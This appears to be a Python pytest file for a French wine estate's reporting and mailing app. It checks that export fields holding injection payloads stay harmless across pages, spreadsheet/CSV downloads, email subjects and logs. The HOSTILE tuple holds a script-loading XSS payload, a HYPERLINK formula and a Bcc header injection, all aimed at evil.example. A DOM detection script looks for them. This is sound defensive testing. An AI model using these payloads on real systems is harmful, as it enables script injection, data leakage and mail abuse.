"""Every field of every export as a script, a formula and a header line, through the real Monday:
loaded, built, planned, and without trace in any page, file, subject or log."""

import csv
import io
import os
import re
from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from openpyxl import load_workbook

from activation.approval.one_letter import one_letter
from tests.support.asks import Answer, ask
from tests.support.house import IDENTITY
from tests.support.page import CHROMIUM, Open, Page, running_page
from warehouse.database import connect
from warehouse.rows import rows
from warehouse.settings import Settings, load_settings
from warehouse.wording import PARIS
from weekly.run import run

pytestmark = [
    pytest.mark.dbt,
    pytest.mark.processes,
    pytest.mark.xdist_group("chromium"),
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine"),
]
ELSEWHERE = "evil.example"
HOSTILE = (
    "<script src=//evil.example/a></script><img src=//evil.example/b onerror=alert(1)>",
    '=HYPERLINK("https://evil.example/","voir")',
    "Anne\r\nBcc: all@evil.example\r\n\r\n@SUM(1)",
)
TODAY = datetime.now(PARIS).date()
MOST_OF_A_KIND = 3
# A line that is right in every way; each of its fields is hostile in three lines of their own.
SALE = {
    "CLIENT CODE": "P{n}", "DATE LIVRAISON": "{day}", "PRODUIT LABEL": "Vin {n}", "QTY LINE": "6",
    "PU HT": "10", "MT HT": "60", "MT TTC": "72", "MARGE": "20", "DOCUMENT TYPE": "FACTURE",
    "DOCUMENT NO": "F{n}-{year}", "ORDER DETAIL NO": "1", "ARTICLE": "BTL",
    "EMAIL": "p{n}@example.org", "CODE POSTAL": "67000", "VILLE": "Strasbourg",
}  # fmt: skip
CLIENT = {
    "client_code": "P{n}", "nom": "Nom{n}", "prenom": "Chloé", "email": "p{n}@example.org",
    "telephone": "038800{n:04d}", "adresse": "{n} rue de l'Essai", "code_postal": "67000",
    "ville": "Strasbourg", "pays": "France", "optin_email": "oui",
}  # fmt: skip
WINE = {
    "produit": "Vin {n}", "article": "BTL", "millesime": "2021", "famille_crm": "Riesling",
    "sous_famille": "Tradition", "macro_categorie": "Vins tranquilles", "prix_ttc": "12,00",
    "price_band": "moins de 15", "premium_tier": "Tradition", "cepage": "Riesling",
    "sucrosite_niveau": "sec", "actif": "oui",
}  # fmt: skip
STOCK = {
    "produit": "Vin {n}", "stock_total": "600", "stock_reserve": "0", "date_snapshot": "{day}",
}  # fmt: skip
CONTACT = {"client_code": "P{n}", "date_contact": "{day}", "canal": "telephone", "statut": "ok"}


def lines(fields: dict[str, str], years: tuple[int, ...] = (0,)) -> Iterator[list[str]]:
    """Yield a header, then a good line for each of 240, then each field in each disguise."""
    yield list(fields)
    for year in years:
        day = f"{TODAY - timedelta(days=30 + 350 * year):%d/%m/%Y}"
        for n in range(240):
            yield [text.format(n=n, day=day, year=year) for text in fields.values()]
        hostile = [(field, words) for field in fields for words in HOSTILE]
        for n, (field, words) in enumerate(hostile, 300):
            given = {name: text.format(n=n, day=day, year=year) for name, text in fields.items()}
            yield list({**given, field: words}.values())


def export(folder: Path, dataset: str, written: Iterator[list[str]]) -> None:
    path = folder / "raw" / "isavigne" / dataset / f"{dataset}_{TODAY - timedelta(days=1)}.csv"
    path.parent.mkdir(parents=True)
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(written)
    path.write_bytes(text.getvalue().encode())
    os.utime(path, (path.stat().st_mtime - 60,) * 2)  # nobody is writing it any more


@pytest.fixture
def estate(dbt_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """An estate whose exports are hostile in every field, after its Monday."""
    for name, text in {**IDENTITY, "BREVO_SENDER_EMAIL": "domaine@example.org"}.items():
        monkeypatch.setenv(name, text)
    monkeypatch.setenv("ACTIVATION_HASH_KEY", "k" * 40)
    sales = list(lines(SALE, years=(1, 2)))
    named = [dict(zip(SALE, line, strict=True)) for line in sales[1:]]
    wines = [wine for wine in HOSTILE for _ in range(2)]
    for one, wine in zip(named[:12], wines * 2, strict=True):  # bought by persons in good order
        one["PRODUIT LABEL"] = wine
    export(tmp_path, "ventes_lignes", iter([sales[0], *(list(one.values()) for one in named)]))
    export(tmp_path, "clients", lines(CLIENT))
    export(tmp_path, "produits", lines(WINE))
    export(tmp_path, "stock", lines(STOCK))
    export(tmp_path, "contacts", lines(CONTACT))
    return load_settings()


@pytest.fixture
def conn(estate: Settings) -> Iterator[Any]:
    opened = connect(estate)
    yield opened
    opened.close()


@pytest.fixture
def page(estate: Settings) -> Iterator[Page]:
    with running_page(estate) as running:
        yield running


def test_hostile_words_of_exports_stay_words_in_every_page_file_subject_and_log(
    estate: Settings, page: Page, opened: Open, conn: Any, capfd: pytest.CaptureFixture[str]
) -> None:
    run(estate)
    letters = [
        one["id"]
        for one in rows(conn, "select reco_id::text as id from activation.recommendations")
    ]
    said = "".join(capfd.readouterr())
    assert letters, said
    # The run shows a letter, as words; what it keeps of itself names nothing of an export.
    assert not [line for line in said.splitlines() if line.startswith("Bcc:")]
    kept = [one.read_text("utf-8") for one in estate.exports_dir.glob("state/*/logs/*")]
    assert kept
    assert ELSEWHERE not in "".join(kept)
    subjects = [one_letter(conn, one).letter.subject for one in letters]  # type: ignore[union-attr]
    conn.rollback()
    assert not [one for one in subjects if len(one.splitlines()) != 1]
    walked, files = walk(page, opened)
    assert {"/lundi", "/lettres", "/clients", "/conformite", "/resultats"} <= walked
    assert len(files) >= 4


def walk(page: Page, opened: Open) -> tuple[set[str], set[str]]:
    """Look at some of every kind of page there is a link to, and keep each file.

    Of filters that go together, each is met some times at its address, not all their combinations.
    """
    tab = opened("Claire")
    tab.set_default_timeout(30_000)
    waiting, seen, kinds = ["/lundi", "/envoyer", "/aide"], set[str](), Counter[str]()
    files = set[str]()
    cookie = {"Cookie": f"session={page.token('Claire')}"}
    while waiting:
        here = waiting.pop(0)
        of = kinds_of(here)
        if here in seen or all(kinds[kind] >= MOST_OF_A_KIND for kind in of):
            continue
        seen.add(here)
        kinds.update(of)
        answer = ask(page.url, path=here, **cookie)
        assert answer.status in (200, 303, 404), (here, answer.status)
        assert not [h for h in answer.headers.items() if "evil" in "".join(h) or h[0] == "bcc"]
        if not answer.headers.get("content-type", "").startswith("text/html"):
            files.add(here)
            no_formula(answer)
            continue
        tab.goto(page.url + here)
        assert tab.evaluate(FOUND) == [], here
        links = tab.eval_on_selector_all("a[href], iframe[src]", LINKS)
        waiting += [within(page, link) for link in links if link.startswith(page.url)]
    return {urlsplit(one).path for one in seen}, files


# What no word of an export may ever have become.
FOUND = """
    () => [...document.querySelectorAll("script, img, base, iframe, link, [onerror], a, form")]
        .filter(one => one.onerror
            || /evil/.test(new URL(one.src || one.href || one.action || "", location).host))
        .map(one => one.outerHTML)
"""
LINKS = "all => all.map(one => one.href || one.src)"


def within(page: Page, link: str) -> str:
    parts = urlsplit(urljoin(page.url, link))
    return parts.path + (f"?{parts.query}" if parts.query else "")


def kinds_of(address: str) -> set[str]:
    """Return an address without what names a person, a wine or a letter, with each word asked."""
    parts = urlsplit(address)
    path = re.sub(r"/(vins)/.+", r"/\1/*", re.sub(r"/[0-9a-f-]{36}", "/*", parts.path))
    place = re.sub(r"/clients/(?!vins|selection)[^/]+", "/clients/*", path)
    return {f"{place}?{word}" for word in re.findall(r"(?:^|&)(\w+)=", parts.query) or [""]}


def no_formula(answer: Answer) -> None:
    """Fail when a spreadsheet would reckon a cell of a file, or take one line for two."""
    if "spreadsheet" in answer.headers["content-type"]:
        book = load_workbook(io.BytesIO(answer.body))
        cells = [one for sheet in book for line in sheet.iter_rows() for one in line]
        assert not [one for one in cells if one.data_type == "f" or one.hyperlink]
        texts = [one.value for one in cells if isinstance(one.value, str)]
    elif "csv" in answer.headers["content-type"]:
        text = answer.body.decode("utf-8-sig")
        texts = [one for line in csv.reader(io.StringIO(text), delimiter=";") for one in line]
    else:
        return
    reckoned = [one for one in texts if one.lstrip().startswith(("=", "@", "+", "-"))]
    assert [one for one in reckoned if not re.fullmatch(r"-[\d,]+", one)] == []
    assert [one for one in texts if "\r" in one or "\n" in one] == []
